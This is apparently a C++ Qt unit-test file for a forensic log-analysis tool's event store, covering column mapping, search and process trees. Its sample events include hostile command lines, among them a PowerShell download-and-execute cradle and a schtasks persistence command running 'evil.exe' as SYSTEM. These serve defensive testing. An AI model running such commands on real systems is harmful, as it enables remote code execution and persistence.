// SPDX-License-Identifier: GPL-3.0-or-later
// Storing events: column mapping (Sysmon and 4688 in the same columns), the
// data JSON, EventCursor round trip, full-text search rows, process trees
// (GUIDs, pids with reuse, terminations), tasks and services.

#include <QtTest>

#include "core/store/case_file.h"
#include "core/store/entity_ids.h"
#include "core/store/event_cursor.h"
#include "core/store/event_search_index.h"
#include "core/store/event_writer.h"
#include "core/store/hunt_query.h"
#include "core/store/statement.h"
#include "tests_support/test_paths.h"

using namespace hitome::core;

namespace {

WinEvent makeEvent(std::uint32_t id, const char* channel, Ticks time, std::vector<EventField> fields,
                   const char* computer = "WS01.corp.local") {
    WinEvent e;
    e.eventId = id;
    e.channel = channel;
    e.provider = "Test";
    e.computer = computer;
    e.time = time;
    e.recordId = static_cast<std::uint64_t>(time);
    e.data = std::move(fields);
    return e;
}

constexpr const char* kSysmon = "Microsoft-Windows-Sysmon/Operational";
constexpr Ticks kT0 = 1700000000LL * kTicksPerSecond;

std::int64_t scalar(Connection& conn, const std::string& sql) {
    Statement st(conn, sql);
    auto r = st.step();
    return r && *r == Statement::Step::Row ? st.columnInt(0) : -1;
}

std::string text(Connection& conn, const std::string& sql) {
    Statement st(conn, sql);
    auto r = st.step();
    return r && *r == Statement::Step::Row ? st.columnText(0) : std::string("<none>");
}

std::int64_t addSource(Connection& conn, const char* sha) {
    Statement st(conn, "INSERT INTO sources(name, sha256, format, imported_at) VALUES('t', ?, 'test', 0)");
    st.bind(1, sha);
    if (!st.run()) return -1;
    return conn.lastInsertRowId();
}

}  // namespace

class TestEventStore : public QObject {
    Q_OBJECT
private slots:
    void sysmonAndSecurityShareColumns() {
        auto c = CaseFile::open(hitome::test::scratchDir("evstore") / "a.hitome");
        QVERIFY(c.ok());
        Connection& conn = c->connection();
        EntityIds ids(conn);
        EventWriter w(conn, ids);
        const auto src = addSource(conn, "1");
        QVERIFY(w.add(makeEvent(1, kSysmon, kT0, {{"Image", "C:\\Windows\\System32\\cmd.exe"},
                                                  {"CommandLine", "cmd /c whoami"},
                                                  {"ProcessId", "4242"},
                                                  {"User", "CORP\\alice"}}), src).ok());
        QVERIFY(w.add(makeEvent(4688, "Security", kT0 + 1, {{"NewProcessName", "C:\\Windows\\System32\\net.exe"},
                                                            {"CommandLine", "net user /domain"},
                                                            {"NewProcessId", "0x1a4"},
                                                            {"ProcessId", "0x10"},
                                                            {"ParentProcessName", "C:\\x\\cmd.exe"},
                                                            {"SubjectUserName", "bob"},
                                                            {"SubjectDomainName", "CORP"},
                                                            {"TargetUserName", "-"}}), src).ok());
        QVERIFY(w.flush().ok());
        QCOMPARE(w.liveCount(), 2u);
        QCOMPARE(text(conn, "SELECT image FROM events WHERE event_id = 4688"),
                 std::string("C:\\Windows\\System32\\net.exe"));
        QCOMPARE(scalar(conn, "SELECT pid FROM events WHERE event_id = 4688"), 0x1a4);
        QCOMPARE(scalar(conn, "SELECT parent_pid FROM events WHERE event_id = 4688"), 0x10);
        QCOMPARE(text(conn, "SELECT parent_image FROM events WHERE event_id = 4688"), std::string("C:\\x\\cmd.exe"));
        QCOMPARE(text(conn, "SELECT user FROM events WHERE event_id = 4688"), std::string("CORP\\bob"));
        QCOMPARE(scalar(conn, "SELECT pid FROM events WHERE event_id = 1"), 4242);
        QVERIFY(indexPendingEvents(conn).ok());
        QCOMPARE(scalar(conn, "SELECT count(*) FROM events_fts WHERE events_fts MATCH '\"whoami\"'"), 1);
        QCOMPARE(scalar(conn, "SELECT count(*) FROM hosts WHERE name = 'ws01.corp.local'"), 1);
    }

    void cursorRestoresEveryFieldInOrder() {
        auto c = CaseFile::open(hitome::test::scratchDir("evstore") / "b.hitome");
        QVERIFY(c.ok());
        Connection& conn = c->connection();
        EntityIds ids(conn);
        EventWriter w(conn, ids);
        const auto src = addSource(conn, "2");
        WinEvent e = makeEvent(4104, "Microsoft-Windows-PowerShell/Operational", kT0,
                               {{"ScriptBlockText", "Write-Host \"hi\"\n\t\x01"}, {"Path", ""}, {"Zeta", "1"}});
        e.level = 5;
        e.userSid = "S-1-5-18";
        QVERIFY(w.add(e, src).ok());
        // Repeated names (unnamed <Data>) survive as pairs.
        QVERIFY(w.add(makeEvent(7, "System", kT0 + 5, {{"Data", "a"}, {"Data", "b"}}), src).ok());
        QVERIFY(w.flush().ok());
        EventCursor cur(conn, EventFilter{});
        StoredEvent s;
        QVERIFY(cur.next(s));
        QCOMPARE(s.event.eventId, 4104u);
        QCOMPARE(s.event.level, std::uint8_t(5));
        QCOMPARE(s.event.userSid, std::string("S-1-5-18"));
        QCOMPARE(s.event.data.size(), size_t(3));
        QCOMPARE(s.event.data[0].value, std::string("Write-Host \"hi\"\n\t\x01"));
        QCOMPARE(s.event.data[2].name, std::string("Zeta"));
        QVERIFY(cur.next(s));
        QCOMPARE(s.event.data.size(), size_t(2));
        QCOMPARE(s.event.data[1].value, std::string("b"));
        QVERIFY(!cur.next(s));
        QVERIFY(cur.status().ok());
        EventFilter onlySystem;
        onlySystem.eventIds = {7};
        EventCursor cur2(conn, onlySystem);
        QVERIFY(cur2.next(s));
        QCOMPARE(s.event.channel, std::string("System"));
        QVERIFY(!cur2.next(s));
    }

    void textSearchMatchesSubstringsOfEveryWord() {
        auto c = CaseFile::open(hitome::test::scratchDir("evstore") / "fts.hitome");
        QVERIFY(c.ok());
        Connection& conn = c->connection();
        EntityIds ids(conn);
        EventWriter w(conn, ids);
        const auto src = addSource(conn, "fts");
        QVERIFY(w.add(makeEvent(1, kSysmon, kT0, {{"Image", "C:\\Windows\\System32\\schtasks.exe"},
                                                  {"CommandLine", "schtasks /create /SC ONCE /TN Troj /TR C:\\x\\b.exe /F"}}),
                      src).ok());
        QVERIFY(w.add(makeEvent(4104, "Microsoft-Windows-PowerShell/Operational", kT0 + 1,
                                {{"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"}}),
                      src).ok());
        QVERIFY(w.add(makeEvent(1, kSysmon, kT0 + 2, {{"CommandLine", "cmd /c \"echo 100% done\" OR NOT"}}), src).ok());
        QVERIFY(w.flush().ok());
        auto count = [&](const char* text) {
            HuntQuery q;
            q.text = text;
            auto r = queryHuntIds(conn, q);
            return r ? static_cast<int>(r->ids.size()) : -1;
        };
        QCOMPARE(count("schtasks"), 1);            // inside schtasks.exe and the command
        QCOMPARE(count("/create"), 1);
        QCOMPARE(count("SCHTASKS /CREATE"), 1);    // case-insensitive, every word
        QCOMPARE(count("schtasks download"), 0);   // both words must occur in one event
        QCOMPARE(count("downloadstring"), 1);      // inside ").DownloadString("
        QCOMPARE(count("/F"), 1);                  // two characters: LIKE fallback
        QCOMPARE(count("\"100% done\""), 1);     // quotes keep the blank; % is literal
        QCOMPARE(count("0%"), 1);
        QCOMPARE(count("_%"), 0);
        QCOMPARE(count("OR NOT"), 1);              // FTS5 operators are plain words
        QCOMPARE(count("\" AND (\""), 0);         // hostile syntax: no error, no match
        EventFilter f;
        f.text = "webclient";
        EventCursor cur(conn, f);
        StoredEvent s;
        QVERIFY(cur.next(s));
        QCOMPARE(s.event.eventId, 4104u);
        QVERIFY(!cur.next(s));
        QVERIFY(cur.status().ok());
    }

    void sysmonTreeByGuidWithTermination() {
        auto c = CaseFile::open(hitome::test::scratchDir("evstore") / "c.hitome");
        QVERIFY(c.ok());
        Connection& conn = c->connection();
        EntityIds ids(conn);
        EventWriter w(conn, ids);
        const auto src = addSource(conn, "3");
        QVERIFY(w.add(makeEvent(1, kSysmon, kT0, {{"ProcessGuid", "{B}"}, {"ProcessId", "20"},
                                                  {"Image", "C:\\cmd.exe"}, {"ParentProcessGuid", "{A}"},
                                                  {"ParentProcessId", "10"}, {"ParentImage", "C:\\explorer.exe"}}), src).ok());
        QVERIFY(w.add(makeEvent(1, kSysmon, kT0 + 10, {{"ProcessGuid", "{C}"}, {"ProcessId", "30"},
                                                       {"Image", "C:\\schtasks.exe"}, {"ParentProcessGuid", "{B}"},
                                                       {"ParentProcessId", "20"},
                                                       {"CommandLine", "schtasks /create /tn Updater /tr evil.exe /sc daily /ru SYSTEM"}}), src).ok());
        QVERIFY(w.add(makeEvent(3, kSysmon, kT0 + 20, {{"ProcessGuid", "{C}"}, {"DestinationIp", "10.0.0.5"},
                                                       {"DestinationPort", "443"}}), src).ok());
        QVERIFY(w.add(makeEvent(5, kSysmon, kT0 + 30, {{"ProcessGuid", "{C}"}, {"ProcessId", "30"}}), src).ok());
        QVERIFY(w.flush().ok());
        QCOMPARE(scalar(conn, "SELECT count(*) FROM processes"), 3);   // explorer stub, cmd, schtasks
        QCOMPARE(text(conn, "SELECT pp.image FROM processes p JOIN processes pp ON pp.id = p.parent_id "
                            "JOIN processes gp ON gp.id = pp.parent_id WHERE p.guid = '{C}'"), std::string("C:\\cmd.exe"));
        QCOMPARE(text(conn, "SELECT gp.image FROM processes p JOIN processes pp ON pp.id = p.parent_id "
                            "JOIN processes gp ON gp.id = pp.parent_id WHERE p.guid = '{C}'"), std::string("C:\\explorer.exe"));
        QCOMPARE(scalar(conn, "SELECT end_time FROM processes WHERE guid = '{C}'"), kT0 + 30);
        QCOMPARE(scalar(conn, "SELECT count(*) FROM events e JOIN processes p ON p.id = e.process_id "
                              "WHERE p.guid = '{C}'"), 3);
        QCOMPARE(text(conn, "SELECT name || '|' || run_as || '|' || action || '|' || origin FROM scheduled_tasks"),
                 std::string("\\Updater|SYSTEM|evil.exe|command-line"));
        QCOMPARE(scalar(conn, "SELECT destination_port FROM events WHERE event_id = 3"), 443);
    }

    void securityTreeHandlesPidReuse() {
        auto c = CaseFile::open(hitome::test::scratchDir("evstore") / "d.hitome");
        QVERIFY(c.ok());
        Connection& conn = c->connection();
        EntityIds ids(conn);
        EventWriter w(conn, ids);
        const auto src = addSource(conn, "4");
        auto proc = [&](Ticks t, const char* pid, const char* ppid, const char* image) {
            return w.add(makeEvent(4688, "Security", t, {{"NewProcessId", pid}, {"ProcessId", ppid},
                                                         {"NewProcessName", image}}), src);
        };
        QVERIFY(proc(kT0, "0x100", "0x4", "C:\\first.exe").ok());
        QVERIFY(proc(kT0 + 10, "0x200", "0x100", "C:\\child-of-first.exe").ok());
        QVERIFY(w.add(makeEvent(4689, "Security", kT0 + 20, {{"ProcessId", "0x100"}}), src).ok());
        QVERIFY(proc(kT0 + 30, "0x100", "0x4", "C:\\second.exe").ok());   // pid 0x100 reused
        QVERIFY(proc(kT0 + 40, "0x300", "0x100", "C:\\child-of-second.exe").ok());
        QVERIFY(w.flush().ok());
        QCOMPARE(text(conn, "SELECT pp.image FROM processes p JOIN processes pp ON pp.id = p.parent_id "
                            "WHERE p.image = 'C:\\child-of-first.exe'"), std::string("C:\\first.exe"));
        QCOMPARE(text(conn, "SELECT pp.image FROM processes p JOIN processes pp ON pp.id = p.parent_id "
                            "WHERE p.image = 'C:\\child-of-second.exe'"), std::string("C:\\second.exe"));
        QCOMPARE(scalar(conn, "SELECT end_time FROM processes WHERE image = 'C:\\first.exe'"), kT0 + 20);
        QVERIFY(scalar(conn, "SELECT end_time IS NULL FROM processes WHERE image = 'C:\\second.exe'") == 1);
    }

    void unflushedBatchRollsBack() {
        auto c = CaseFile::open(hitome::test::scratchDir("evstore") / "e.hitome");
        QVERIFY(c.ok());
        Connection& conn = c->connection();
        const auto src = addSource(conn, "5");
        {
            EntityIds ids(conn);
            EventWriter w(conn, ids);
            QVERIFY(w.add(makeEvent(1, kSysmon, kT0, {{"Image", "x"}}), src).ok());
        }
        QCOMPARE(scalar(conn, "SELECT count(*) FROM events"), 0);
    }
};

QTEST_APPLESS_MAIN(TestEventStore)
#include "test_event_store.moc"
